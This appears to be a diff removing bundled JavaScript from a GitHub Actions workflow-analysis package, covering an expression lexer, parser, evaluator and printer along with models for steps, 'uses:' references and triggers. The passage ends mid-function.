-/** Levels of arrays and objects in JSON. Real contexts have fewer than ten. */
-const MAX_JSON_DEPTH = 100;
-/** Reads JSON as `fromJSON` does; undefined when it is none, or nested too deeply to walk. */
-function fromJson(text) {
-    try {
-        return fromPlain(JSON.parse(text), 0);
-    }
-    catch {
-        return undefined;
-    }
-}
-function fromPlain(plain, depth) {
-    if (depth > MAX_JSON_DEPTH)
-        throw new RangeError("nested too deeply");
-    if (Array.isArray(plain))
-        return plain.map((item) => fromPlain(item, depth + 1));
-    if (typeof plain === "object" && plain !== null) {
-        return new ObjectValue(new Map(Object.entries(plain).map(([key, value]) => [key, fromPlain(value, depth + 1)])));
-    }
-    return plain;
-}
-/** Writes JSON as `toJSON` does: two spaces a level. */
-function toJson(value, indent = "") {
-    const inner = `${indent}  `;
-    if (value instanceof ObjectValue) {
-        if (value.entries.size === 0)
-            return "{}";
-        const lines = [...value.entries].map(([key, item]) => `${inner}${JSON.stringify(key)}: ${toJson(item, inner)}`);
-        return `{\n${lines.join(",\n")}\n${indent}}`;
-    }
-    if (isCollection(value)) {
-        if (value.length === 0)
-            return "[]";
-        return `[\n${value.map((item) => inner + toJson(item, inner)).join(",\n")}\n${indent}]`;
-    }
-    return typeof value === "number" ? numberText(value) : JSON.stringify(value);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/functions.js
-
-/**
- * The longest text that a function gives here, in UTF-16 code units. Each `format` in a `format` can multiply a text's
- * length, so that a short expression could ask for more memory than there is; GitHub stops such a run, too.
- */
-const MAX_TEXT = 100_000;
-/** The functions that depend on nothing but what they are given. Undefined when the call has no value (the run would fail). */
-function callFunction(name, args) {
-    const [first, second] = args;
-    if (first === undefined)
-        return undefined;
-    switch (name) {
-        case "contains":
-            return second === undefined ? undefined : contains(first, second);
-        case "startswith":
-            return second === undefined ? undefined : testText(first, second, (text, part) => text.startsWith(part));
-        case "endswith":
-            return second === undefined ? undefined : testText(first, second, (text, part) => text.endsWith(part));
-        case "format":
-            return format(toText(first), args.slice(1));
-        case "join":
-            return join(first, second === undefined || isCollection(second) ? "," : toText(second));
-        case "tojson":
-            return bounded(toJson(first));
-        case "fromjson":
-            return fromJson(toText(first));
-        default:
-            return undefined;
-    }
-}
-function contains(haystack, needle) {
-    if (Array.isArray(haystack))
-        return haystack.some((item) => areEqual(item, needle));
-    return testText(haystack, needle, (text, part) => text.includes(part));
-}
-function testText(a, b, test) {
-    if (isCollection(a) || isCollection(b))
-        return false;
-    return test(upper(toText(a)), upper(toText(b)));
-}
-function bounded(text) {
-    return text.length <= MAX_TEXT ? text : undefined;
-}
-function join(value, separator) {
-    if (!Array.isArray(value))
-        return isCollection(value) ? "" : toText(value);
-    let result = "";
-    for (const [i, item] of value.entries()) {
-        result += i === 0 ? toText(item) : separator + toText(item);
-        if (result.length > MAX_TEXT)
-            return undefined;
-    }
-    return result;
-}
-/** `{0}` stands for an argument, `{{` and `}}` for braces; anything else in braces fails the run. */
-function format(template, args) {
-    let result = "";
-    for (let i = 0; i < template.length; i++) {
-        const char = template[i];
-        if ((char === "{" || char === "}") && template[i + 1] === char) {
-            result += char;
-            i++;
-        }
-        else if (char === "{") {
-            const close = template.indexOf("}", i);
-            const digits = close === -1 ? "" : template.slice(i + 1, close);
-            const arg = /^\d{1,3}$/.test(digits) ? args[Number(digits)] : undefined;
-            if (arg === undefined)
-                return undefined;
-            result += toText(arg);
-            if (result.length > MAX_TEXT)
-                return undefined;
-            i = close;
-        }
-        else if (char === "}")
-            return undefined;
-        else
-            result += char;
-    }
-    return result;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/evaluate.js
-
-
-
-const UNKNOWN = { known: false };
-function known(value) {
-    return { known: true, value };
-}
-/** True, false, or undefined when it may be either. */
-function truthiness(result) {
-    return result.known ? isTruthy(result.value) : result.truthy;
-}
-/**
- * Evaluates an expression as the runner does, as far as what is known goes: `false && unknown` is false, `unknown || true`
- * is true, `unknown && false` is something falsy.
- *
- * @see Evaluate expressions in workflows and actions
- */
-function evaluate(expression, options) {
-    switch (expression.kind) {
-        case "literal":
-            return known(expression.value);
-        case "not":
-            return negated(evaluate(expression.operand, options));
-        case "logical":
-            return logical(expression, options);
-        case "binary":
-            return binary(expression, options);
-        case "call":
-            return call(expression, options);
-        default:
-            return access(expression, options);
-    }
-}
-function negated(result) {
-    const truthy = truthiness(result);
-    return truthy === undefined ? UNKNOWN : known(!truthy);
-}
-function logical({ operator, left, right }, options) {
-    const first = evaluate(left, options);
-    const truthy = truthiness(first);
-    // `&&` gives its left side where that is falsy, `||` where it is truthy.
-    const endsHere = operator === "||";
-    if (truthy === endsHere)
-        return first;
-    const second = evaluate(right, options);
-    if (truthy !== undefined)
-        return second;
-    return truthiness(second) === endsHere ? { known: false, truthy: endsHere } : UNKNOWN;
-}
-function binary({ operator, left, right }, options) {
-    const a = evaluate(left, options);
-    const b = evaluate(right, options);
-    if (!a.known || !b.known)
-        return UNKNOWN;
-    switch (operator) {
-        case "==":
-            return known(areEqual(a.value, b.value));
-        case "!=":
-            return known(!areEqual(a.value, b.value));
-        case "<":
-            return known(compare(a.value, b.value) < 0);
-        case "<=":
-            return known(areEqual(a.value, b.value) || compare(a.value, b.value) < 0);
-        case ">":
-            return known(compare(a.value, b.value) > 0);
-        default:
-            return known(areEqual(a.value, b.value) || compare(a.value, b.value) > 0);
-    }
-}
-function call({ name, args }, options) {
-    if (name === "case")
-        return caseOf(args, options);
-    const values = args.map((arg) => evaluate(arg, options));
-    const special = options.functions?.(name, values);
-    if (special)
-        return special;
-    const plain = [];
-    for (const value of values) {
-        if (!value.known)
-            return UNKNOWN;
-        plain.push(value.value);
-    }
-    const result = callFunction(name, plain);
-    return result === undefined ? UNKNOWN : known(result);
-}
-/** `case(condition, value, …, default)`: the value of the first condition that is true. A condition must be a boolean. */
-function caseOf(args, options) {
-    const [first, second, ...others] = args;
-    if (!first)
-        return UNKNOWN;
-    if (!second)
-        return evaluate(first, options);
-    const condition = evaluate(first, options);
-    if (condition.known && typeof condition.value !== "boolean")
-        return UNKNOWN;
-    const truthy = truthiness(condition);
-    if (truthy === true)
-        return evaluate(second, options);
-    const otherwise = caseOf(others, options);
-    return truthy === false ? otherwise : evaluate_oneOf(evaluate(second, options), otherwise);
-}
-/** What is sure of a value that is one of two. */
-function evaluate_oneOf(a, b) {
-    const truthy = truthiness(a);
-    return truthy !== undefined && truthy === truthiness(b) ? { known: false, truthy } : UNKNOWN;
-}
-function access(expression, options) {
-    const path = contextPath(expression);
-    if (path?.exact && !path.segments.includes("*")) {
-        const found = options.lookup(path.segments);
-        if (truthiness(found) !== undefined)
-            return found;
-    }
-    switch (expression.kind) {
-        case "property":
-            return mapped(evaluate(expression.object, options), (value) => member(value, expression.name));
-        case "filter":
-            return mapped(evaluate(expression.object, options), filtered);
-        case "index": {
-            const index = evaluate(expression.index, options);
-            const object = evaluate(expression.object, options);
-            return index.known ? mapped(object, (value) => memberAt(value, index.value)) : UNKNOWN;
-        }
-        default:
-            return UNKNOWN;
-    }
-}
-function mapped(result, map) {
-    return result.known ? known(map(result.value)) : UNKNOWN;
-}
-/** What a filter gave: an access to it is an access to each of its items. */
-class Filtered extends Array {
-}
-function filtered(value) {
-    // A filter of what a filter gave goes one level deeper.
-    if (value instanceof Filtered)
-        return Filtered.from([...value].flatMap(itemsOf));
-    return Filtered.from(itemsOf(value));
-}
-function itemsOf(value) {
-    if (value instanceof ObjectValue)
-        return [...value.entries.values()];
-    return Array.isArray(value) ? value : [];
-}
-function member(value, name) {
-    const read = (object) => (object instanceof ObjectValue ? object.get(name) : undefined);
-    return value instanceof Filtered ? eachOf(value, read) : (read(value) ?? null);
-}
-function memberAt(value, index) {
-    return value instanceof Filtered ? eachOf(value, (item) => itemAt(item, index)) : (itemAt(value, index) ?? null);
-}
-/** What an access gives for each item, without those that have nothing there. */
-function eachOf(items, read) {
-    const found = new Filtered();
-    for (const item of items) {
-        const value = read(item);
-        if (value !== undefined)
-            found.push(value);
-    }
-    return found;
-}
-/** An object's value by its key, an array's item by its number, whatever type the index has. */
-function itemAt(value, index) {
-    if (isCollection(index))
-        return undefined;
-    if (value instanceof ObjectValue)
-        return value.get(toText(index));
-    if (!Array.isArray(value))
-        return undefined;
-    const number = Math.floor(toNumber(index));
-    return number >= 0 ? value[number] : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/arity.js
-/** How many arguments functions take: the least and the most. */
-const ARITIES = new Map([
-    ["case", [3, 255]],
-    ["contains", [2, 2]],
-    ["endswith", [2, 2]],
-    ["format", [1, 255]],
-    ["fromjson", [1, 1]],
-    ["hashfiles", [1, 255]],
-    ["join", [1, 2]],
-    ["startswith", [2, 2]],
-    ["tojson", [1, 1]],
-]);
-/**
- * What is wrong with a call of a function with so many arguments, to go on after its name; undefined when nothing is, or
- * when the function isn't known here.
- *
- * @param name in lower case
- * @see actions/runner, `ExpressionConstants` and `ExpressionParser`: GitHub refuses the workflow
- */
-function checkArity(name, count) {
-    const arity = ARITIES.get(name);
-    if (!arity)
-        return undefined;
-    const [least, most] = arity;
-    if (count < least || count > most)
-        return `takes ${rangeText(least, most)}, not ${count}`;
-    if (name === "case" && count % 2 === 0)
-        return `takes an odd number of arguments, not ${count}: the last is the default`;
-    return undefined;
-}
-function rangeText(least, most) {
-    if (least === most)
-        return `${least} argument${least === 1 ? "" : "s"}`;
-    return `${least} to ${most} arguments`;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/parser.js
-
-
-/** GitHub's own limits (actions/runner, `ExpressionConstants`). */
-const parser_MAX_DEPTH = 50;
-const parser_MAX_LENGTH = 21_000;
-/** Operands of one chain (`a || b || …`): it becomes a tree as deep, which everything walks. */
-const MAX_CHAIN = 500;
-/**
- * Parses an expression, without its fence.
- *
- * @param base added to all offsets: where `text` begins in whatever holds it
- * @see Evaluate expressions in workflows and actions, "Operators" for what binds closer
- */
-function parseExpression(text, base = 0) {
-    try {
-        if (text.length > parser_MAX_LENGTH) {
-            throw new ExpressionError(`it is longer than the ${parser_MAX_LENGTH} characters that GitHub reads`, 0, text.length);
-        }
-        return { ok: true, expression: new Parser(new Lexer(text), base).parse() };
-    }
-    catch (error) {
-        if (!(error instanceof ExpressionError))
-            throw error;
-        return { ok: false, error: { message: error.message, start: error.start + base, end: error.end + base } };
-    }
-}
-const parser_CONSTANTS = new Map([
-    ["true", true],
-    ["false", false],
-    ["null", null],
-    ["NaN", Number.NaN],
-    ["Infinity", Number.POSITIVE_INFINITY],
-]);
-/** One method a level of precedence, the loosest first; each leaves the lexer at the first token that isn't its own. */
-class Parser {
-    lexer;
-    base;
-    depth = 0;
-    constructor(lexer, base) {
-        this.lexer = lexer;
-        this.base = base;
-    }
-    parse() {
-        if (this.isAt("end"))
-            throw new ExpressionError("the expression is empty", 0, this.lexer.end);
-        const expression = this.nested();
-        if (!this.isAt("end"))
-            throw this.unexpected();
-        return expression;
-    }
-    isAt(kind) {
-        return this.lexer.kind === kind;
-    }
-    /** A whole expression one level deeper: hostile input ends in an error here instead of an exhausted stack. */
-    nested() {
-        this.descend();
-        const expression = this.or();
-        this.depth--;
-        return expression;
-    }
-    or() {
-        let left = this.and();
-        if (!this.isAt("||"))
-            return left;
-        this.descend();
-        for (let count = 1; this.isAt("||"); count++) {
-            this.limitChain(count);
-            this.lexer.next();
-            const right = this.and();
-            left = { kind: "logical", operator: "||", left, right, start: left.start, end: right.end };
-        }
-        this.depth--;
-        return left;
-    }
-    and() {
-        let left = this.equality();
-        if (!this.isAt("&&"))
-            return left;
-        this.descend();
-        for (let count = 1; this.isAt("&&"); count++) {
-            this.limitChain(count);
-            this.lexer.next();
-            const right = this.equality();
-            left = { kind: "logical", operator: "&&", left, right, start: left.start, end: right.end };
-        }
-        this.depth--;
-        return left;
-    }
-    equality() {
-        let left = this.comparison();
-        for (let count = 1; isEquality(this.lexer.kind); count++) {
-            const operator = this.takeComparison(count);
-            const right = this.comparison();
-            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
-        }
-        return left;
-    }
-    comparison() {
-        let left = this.unary();
-        for (let count = 1; isOrdering(this.lexer.kind); count++) {
-            const operator = this.takeComparison(count);
-            const right = this.unary();
-            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
-        }
-        return left;
-    }
-    takeComparison(count) {
-        this.limitChain(count);
-        const operator = this.lexer.kind;
-        this.lexer.next();
-        return operator;
-    }
-    unary() {
-        if (!this.isAt("!"))
-            return this.access();
-        const start = this.lexer.start + this.base;
-        this.lexer.next();
-        this.descend();
-        const operand = this.unary();
-        this.depth--;
-        return { kind: "not", operand, start, end: operand.end };
-    }
-    access() {
-        const isGroup = this.isAt("(");
-        let object = this.primary();
-        // `'text'.name` is no access, `('text').name` is one.
-        if (object.kind === "literal" && !isGroup)
-            return object;
-        const { depth } = this;
-        while (this.isAt(".") || this.isAt("[")) {
-            object = this.isAt(".") ? this.property(object) : this.index(object);
-            this.descend();
-        }
-        this.depth = depth;
-        return object;
-    }
-    property(object) {
-        const { lexer } = this;
-        lexer.next();
-        const { start } = object;
-        const end = lexer.end + this.base;
-        if (lexer.kind === "name") {
-            const name = lexer.text.toLowerCase();
-            lexer.next();
-            return { kind: "property", object, name, start, end };
-        }
-        if (lexer.kind !== "*")
-            throw this.unexpected("a name");
-        lexer.next();
-        return { kind: "filter", object, start, end };
-    }
-    index(object) {
-        this.lexer.next();
-        const { start } = object;
-        if (this.isAt("*")) {
-            this.lexer.next();
-            return { kind: "filter", object, start, end: this.take("]") };
-        }
-        const index = this.nested();
-        return { kind: "index", object, index, start, end: this.take("]") };
-    }
-    primary() {
-        const { lexer } = this;
-        const start = lexer.start + this.base;
-        const end = lexer.end + this.base;
-        switch (lexer.kind) {
-            case "name": {
-                const written = lexer.text;
-                lexer.next();
-                return this.isAt("(") ? this.call(written, start) : named(written, start, end);
-            }
-            case "string":
-            case "number": {
-                const value = lexer.kind === "string" ? lexer.text : lexer.number;
-                lexer.next();
-                return { kind: "literal", value, start, end };
-            }
-            case "(":
-                return this.group(start);
-            default:
-                throw this.unexpected("a value");
-        }
-    }
-    /** The parentheses belong to the place of what they hold. */
-    group(start) {
-        this.lexer.next();
-        const inner = this.nested();
-        inner.start = start;
-        inner.end = this.take(")");
-        return inner;
-    }
-    call(written, start) {
-        const name = written.toLowerCase();
-        const args = [];
-        this.lexer.next();
-        while (!this.isAt(")")) {
-            if (args.length > 0)
-                this.take(",");
-            args.push(this.nested());
-        }
-        const end = this.take(")");
-        const problem = checkArity(name, args.length);
-        if (problem)
-            throw new ExpressionError(`\`${written}\` ${problem}`, start - this.base, end - this.base);
-        return { kind: "call", name, written, args, start, end };
-    }
-    /** Goes past a token that has to be there; gives its end. */
-    take(kind) {
-        const { lexer } = this;
-        if (lexer.kind !== kind)
-            throw this.unexpected(`\`${kind}\``);
-        const end = lexer.end + this.base;
-        lexer.next();
-        return end;
-    }
-    unexpected(wanted) {
-        const { kind, start, end } = this.lexer;
-        const what = kind === "end" ? "the expression ends" : "something else stands here";
-        const message = wanted ? `${wanted} is expected, but ${what}` : "an operator is expected here";
-        return new ExpressionError(message, start, end);
-    }
-    descend() {
-        if (++this.depth <= parser_MAX_DEPTH)
-            return;
-        const { start, end } = this.lexer;
-        throw new ExpressionError(`it is nested deeper than the ${parser_MAX_DEPTH} levels that GitHub reads`, start, end);
-    }
-    limitChain(count) {
-        if (count <= MAX_CHAIN)
-            return;
-        const { start, end } = this.lexer;
-        throw new ExpressionError(`it has more than ${MAX_CHAIN} parts in a row`, start, end);
-    }
-}
-function isEquality(kind) {
-    return kind === "==" || kind === "!=";
-}
-function isOrdering(kind) {
-    return kind === "<" || kind === "<=" || kind === ">" || kind === ">=";
-}
-function named(written, start, end) {
-    const value = parser_CONSTANTS.get(written);
-    if (value !== undefined)
-        return { kind: "literal", value, start, end };
-    return { kind: "context", name: written.toLowerCase(), start, end };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/find.js
-
-/** Every `${{ … }}` of a text. A `}}` inside a string of the expression closes nothing (actions/runner, `TemplateReader`). */
-function findExpressions(value) {
-    const found = [];
-    for (let start = value.indexOf("${{"); start !== -1;) {
-        const bodyStart = start + 3;
-        const close = closingFence(value, bodyStart);
-        const bodyEnd = close === -1 ? value.length : close;
-        const end = close === -1 ? value.length : close + 2;
-        found.push({ start, end, bodyStart, bodyEnd, body: value.slice(bodyStart, bodyEnd), terminated: close !== -1 });
-        start = value.indexOf("${{", end);
-    }
-    return found;
-}
-function closingFence(value, from) {
-    let isInString = false;
-    for (let i = from; i < value.length; i++) {
-        const code = value.charCodeAt(i);
-        if (code === 39)
-            isInString = !isInString;
-        else if (code === 125 && !isInString && value.charCodeAt(i + 1) === 125)
-            return i;
-    }
-    return -1;
-}
-/** @see Workflow syntax for GitHub Actions, `jobs.<job_id>.if`: the fence may be left out */
-function parseCondition(value) {
-    const fences = findExpressions(value);
-    const [first] = fences;
-    if (!first)
-        return parsed(value, 0, false);
-    const isAlone = fences.length === 1 && first.start === 0 && first.end === value.length;
-    return isAlone ? parsed(first.body, first.bodyStart, true) : { kind: "text", fences };
-}
-function parsed(body, base, fenced) {
-    const result = parseExpression(body, base);
-    return result.ok
-        ? { kind: "expression", expression: result.expression, fenced }
-        : { kind: "broken", ...result.error };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/print.js
-/** How closely an operator binds; operands that bind less closely need parentheses. */
-const LEVELS = {
-    "||": 1,
-    "&&": 2,
-    "==": 3,
-    "!=": 3,
-    "<": 4,
-    "<=": 4,
-    ">": 4,
-    ">=": 4,
-};
-const UNARY = 5;
-const ACCESS = 6;
-/** The canonical text of an expression: one space around operators, no parentheses that change nothing. */
-function printExpression(expression) {
-    switch (expression.kind) {
-        case "literal":
-            return printLiteral(expression.value);
-        case "context":
-            return expression.name;
-        case "property":
-            return `${print_within(expression.object, ACCESS)}.${expression.name}`;
-        case "filter":
-            return `${print_within(expression.object, ACCESS)}.*`;
-        case "index":
-            return `${print_within(expression.object, ACCESS)}[${printExpression(expression.index)}]`;
-        case "call":
-            return `${expression.written}(${expression.args.map(printExpression).join(", ")})`;
-        case "not":
-            return `!${print_within(expression.operand, UNARY)}`;
-        default: {
-            const level = LEVELS[expression.operator];
-            // Operators group from the left, so a right operand of the same level needs parentheses.
-            return `${print_within(expression.left, level)} ${expression.operator} ${print_within(expression.right, level + 1)}`;
-        }
-    }
-}
-function print_within(expression, level) {
-    const text = printExpression(expression);
-    return levelOf(expression) < level ? `(${text})` : text;
-}
-function levelOf(expression) {
-    if (expression.kind === "binary" || expression.kind === "logical")
-        return LEVELS[expression.operator];
-    // No access follows a bare literal: `1.x` is a broken number, and `'a'.x` is refused.
-    return expression.kind === "not" || expression.kind === "literal" ? UNARY : ACCESS;
-}
-function printLiteral(value) {
-    if (typeof value === "string")
-        return `'${value.replaceAll("'", "''")}'`;
-    return Object.is(value, -0) ? "-0" : String(value);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/types.js
-const FUNCTION_TYPES = new Map([
-    ["always", "boolean"],
-    ["cancelled", "boolean"],
-    ["contains", "boolean"],
-    ["endswith", "boolean"],
-    ["failure", "boolean"],
-    ["format", "string"],
-    ["hashfiles", "string"],
-    ["join", "string"],
-    ["startswith", "boolean"],
-    ["success", "boolean"],
-    ["tojson", "string"],
-]);
-/** Contexts that are there in every run. `matrix`, `strategy` and `inputs` are null where nothing fills them. */
-const OBJECTS = new Set(["env", "github", "job", "needs", "runner", "secrets", "steps", "vars"]);
-/**
- * The type of an expression's result, where its form alone says it.
- *
- * @see Contexts reference; Evaluate expressions in workflows and actions, "Functions"
- */
-function expressionType(expression) {
-    switch (expression.kind) {
-        case "literal":
-            return expression.value === null ? "null" : typeof expression.value;
-        case "not":
-        case "binary":
-            return "boolean";
-        case "logical":
-            return common(expressionType(expression.left), expressionType(expression.right));
-        case "filter":
-            return "array";
-        case "context":
-            return OBJECTS.has(expression.name) ? "object" : "unknown";
-        case "call":
-            return callType(expression.name, expression.args);
-        default:
-            return "unknown";
-    }
-}
-function callType(name, args) {
-    if (name !== "case")
-        return FUNCTION_TYPES.get(name) ?? "unknown";
-    // Conditions stand at the even places, the last argument is the default.
-    const values = args.filter((_, i) => i % 2 === 1 || i === args.length - 1);
-    return values.map(expressionType).reduce(common, expressionType(values[0]));
-}
-function common(a, b) {
-    return a === b ? a : "unknown";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/index.js
-
-
-
-
-
-
-
-
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/expression.js
-
-/** A `${{ }}` in a scalar, or a bare `if:`. Offsets `start` and `end` are offsets into the scalar's value. */
-class EmbeddedExpression {
-    scalar;
-    start;
-    end;
-    bodyStart;
-    body;
-    isTerminated;
-    #parsed;
-    constructor(scalar, start, end, bodyStart, body, 
-    /** Its closing `}}` is there. */
-    isTerminated) {
-        this.scalar = scalar;
-        this.start = start;
-        this.end = end;
-        this.bodyStart = bodyStart;
-        this.body = body;
-        this.isTerminated = isTerminated;
-    }
-    get file() {
-        return this.scalar.file;
-    }
-    /** Undefined when it can't be parsed; the nodes' offsets are offsets into the scalar's value. */
-    get expression() {
-        this.#parsed ??= parseExpression(this.body, this.bodyStart);
-        return this.#parsed.ok ? this.#parsed.expression : undefined;
-    }
-    /** The text with its fence. */
-    get text() {
-        return this.scalar.value.slice(this.start, this.end);
-    }
-    /** The file's range of a node of this expression, or of the whole. */
-    spanOf(node = this) {
-        return this.scalar.spanOf(node.start, node.end);
-    }
-}
-const NONE = [];
-const cache = new WeakMap();
-/** Every `${{ }}` of a scalar. */
-function expressionsIn(scalar) {
-    if (!scalar.value.includes("${{"))
-        return NONE;
-    let found = cache.get(scalar);
-    if (!found) {
-        found = findExpressions(scalar.value).map((e) => new EmbeddedExpression(scalar, e.start, e.end, e.bodyStart, e.body, e.terminated));
-        cache.set(scalar, found);
-    }
-    return found;
-}
-/** Is the whole value one `${{ }}`? Then that. */
-function wholeExpression(node) {
-    if (node?.kind !== "scalar")
-        return undefined;
-    const [first] = expressionsIn(node);
-    if (!first)
-        return undefined;
-    const value = node.value;
-    return value.slice(0, first.start).trim() === "" && value.slice(first.end).trim() === "" ? first : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/image.js
-const DIGEST = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[0-9a-f]{32,}$/i;
-/**
- * Splits an image reference. A `:` before the last `/` belongs to a registry's port.
- *
- * @see OCI distribution specification 1.1, "Pulling manifests"; distribution/reference grammar
- */
-function parseImage(text) {
-    const trimmed = text.trim();
-    const at = trimmed.indexOf("@");
-    const before = at === -1 ? trimmed : trimmed.slice(0, at);
-    const digest = at === -1 ? null : trimmed.slice(at + 1);
-    const colon = before.indexOf(":", before.lastIndexOf("/") + 1);
-    return {
-        text: trimmed,
-        name: colon === -1 ? before : before.slice(0, colon),
-        tag: colon === -1 ? null : before.slice(colon + 1),
-        digest: digest !== null && DIGEST.test(digest) ? digest : null,
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/uses.js
-
-const COMMIT = /^[0-9a-f]{40}$/i;
-/** A `uses:` of a step or of a job that calls a reusable workflow. */
-class Uses {
-    scalar;
-    #target;
-    constructor(scalar) {
-        this.scalar = scalar;
-    }
-    get text() {
-        return this.scalar.value;
-    }
-    get target() {
-        this.#target ??= parseUses(this.text);
-        return this.#target;
-    }
-    /** Is it that action? `name` is `owner/repo[/path]` in lower case: owner, repository and path have no case on GitHub. */
-    is(name) {
-        const target = this.target;
-        return target.kind === "repository" && nameOf(target) === name;
-    }
-}
-/** `owner/repo[/path]` in lower case. */
-function nameOf(target) {
-    const path = target.path === "" ? "" : `/${target.path}`;
-    return `${target.owner}/${target.repo}${path}`.toLowerCase();
-}
-/** A full 40-digit commit SHA: the only ref that can't be moved. */
-function isCommit(ref) {
-    return COMMIT.test(ref);
-}
-/**
- * Reads a `uses:` value.
- *
- * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].uses` and `jobs.<job_id>.uses`
- */
-function parseUses(value) {
-    const text = value.trim();
-    if (text.includes("${{"))
-        return { kind: "dynamic" };
-    if (text.startsWith("docker://"))
-        return { kind: "docker", image: parseImage(text.slice("docker://".length)) };
-    if (text.startsWith("$/"))
-        return { kind: "local", base: "repository", path: normalizePath(text.slice(2)) };
-    if (text === "." || text.startsWith("./") || text.startsWith("../") || text.startsWith(".\\")) {
-        return { kind: "local", base: "workspace", path: normalizePath(text) };
-    }
-    return parseRepositoryTarget(text, value.indexOf(text));
-}
-function parseRepositoryTarget(text, base) {
-    const at = text.indexOf("@");
-    if (at === -1)
-        return { kind: "malformed" };
-    const [owner, repo, ...path] = text.slice(0, at).split("/");
-    const ref = text.slice(at + 1);
-    if (!owner || !repo || ref === "")
-        return { kind: "malformed" };
-    const refSpan = { start: base + at + 1, end: base + text.length };
-    return { kind: "repository", owner, repo, path: path.filter((part) => part !== "").join("/"), ref, refSpan };
-}
-/** Removes `.` and resolves `..` where it can; `\` counts as `/`. */
-function normalizePath(path) {
-    const parts = [];
-    for (const part of path.replaceAll("\\", "/").split("/")) {
-        if (part === "" || part === ".")
-            continue;
-        if (part === ".." && parts.length > 0 && parts.at(-1) !== "..")
-            parts.pop();
-        else
-            parts.push(part);
-    }
-    return parts.join("/");
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/step.js
-
-
-
-
-/** A `run:` with the shell that reads it. */
-class RunScript {
-    step;
-    scalar;
-    #script;
-    constructor(step, scalar) {
-        this.step = step;
-        this.scalar = scalar;
-    }
-    get text() {
-        return this.scalar.value;
-    }
-    get shell() {
-        return this.step.shell.value;
-    }
-    /** Parsed when first asked for. */
-    get script() {
-        this.#script ??= parseScript(this.text, this.shell, expressionsIn(this.scalar));
-        return this.#script;
-    }
-}
-/** One step of a job or of a composite action. */
-class Step {
-    owner;
-    map;
-    index;
-    uses;
-    run;
-    env;
-    constructor(owner, map, 
-    /** Its place among its owner's steps, from 0; steps of a `parallel:` block count one by one. */
-    index) {
-        this.owner = owner;
-        this.map = map;
-        this.index = index;
-        const uses = map.scalar("uses");
-        const run = map.scalar("run");
-        this.uses = uses ? new Uses(uses) : null;
-        this.run = run ? new RunScript(this, run) : null;
-        this.env = envBlock("step", map);
-    }
-    get file() {
-        return this.map.file;
-    }
-    get id() {
-        return this.map.text("id");
-    }
-    get condition() {
-        return this.map.scalar("if");
-    }
-    /** Inputs of an action, by name in any case. */
-    input(name) {
-        const wanted = name.toLowerCase();
-        return this.with?.entries.find((entry) => entry.key.value.toLowerCase() === wanted);
-    }
-    get with() {
-        return this.map.map("with");
-    }
-    /** `with:` is one expression, so its inputs can't be known. */
-    get hasDynamicInputs() {
-        return this.map.scalar("with")?.isNull === false;
-    }
-    /** The variable as the step sees it: its own `env` before the job's and the workflow's. */
-    variable(name) {
-        return this.env?.get(name) ?? this.owner.variable(name);
-    }
-    /**
-     * The shell of this step's `run:`.
-     *
-     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].shell` and `defaults.run`
-     */
-    get shell() {
-        const own = this.map.scalar("shell");
-        if (own && !own.isNull)
-            return { value: shellOf(own.value), from: "step", node: own };
-        return this.owner.defaultShell;
-    }
-    get workingDirectory() {
-        const own = this.map.scalar("working-directory");
-        if (own && !own.isNull)
-            return { value: own.value, from: "step", node: own };
-        return this.owner.defaultWorkingDirectory;
-    }
-}
-/** The steps of a `steps:` value; those of `parallel:` blocks are among them. */
-function stepsOf(owner, node) {
-    const steps = [];
-    collectSteps(owner, node, steps);
-    return steps;
-}
-function collectSteps(owner, node, steps) {
-    if (node?.kind !== "seq")
-        return;
-    for (const { value } of node.items) {
-        if (value.kind !== "map")
-            continue;
-        steps.push(new Step(owner, value, steps.length));
-        collectSteps(owner, value.get("parallel"), steps);
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/trigger.js
-/** One event of `on:`. */
-class Trigger {
-    key;
-    node;
-    constructor(
-    /** The event's name where it stands: a key, an item or the one scalar. */
-    key, 
-    /** Its settings, when it has any. */
-    node) {
-        this.key = key;
-        this.node = node;
-    }
-    get event() {
-        return this.key.value;
-    }
-    get settings() {
-        return this.node?.kind === "map" ? this.node : undefined;
-    }
-    /** Activity types; undefined when the event's default ones apply. */
-    get types() {
-        return this.list("types");
-    }
-    /** A filter such as `branches`, `branches-ignore`, `tags`, `paths`, `workflows`. */
-    list(filter) {
-        const node = this.settings?.get(filter);
-        return node ? scalarsOf(node) : undefined;
-    }
-    get inputs() {
-        return inputsOf(this.settings?.get("inputs"));
-    }
-    /** Names of the secrets that a `workflow_call` declares. */
-    get secrets() {
-        return this.settings?.map("secrets")?.entries ?? [];
-    }
-    /** `cron` of each entry of a `schedule`. */
-    get schedules() {
-        if (this.node?.kind !== "seq")
-            return [];
-        return this.node.items.flatMap(({ value }) => (value.kind === "map" ? (value.scalar("cron") ?? []) : []));
-    }
-}
-/** The events of an `on:` value: a name, a list of names, or a mapping. */
-function triggersOf(node) {
-    if (!node)
-        return [];
-    if (node.kind === "scalar")
-        return node.isNull ? [] : [new Trigger(node, null)];
-    if (node.kind === "map")
-        return node.entries.map((entry) => new Trigger(entry.key, entry.value));
-    return scalarsOf(node).map((item) => new Trigger(item, null));
-}
-const INPUT_TYPES = new Set(["string", "boolean", "number", "choice", "environment"]);
-function inputsOf(node) {
-    if (node?.kind !== "map")
-        return [];
-    return node.entries.map((entry) => {
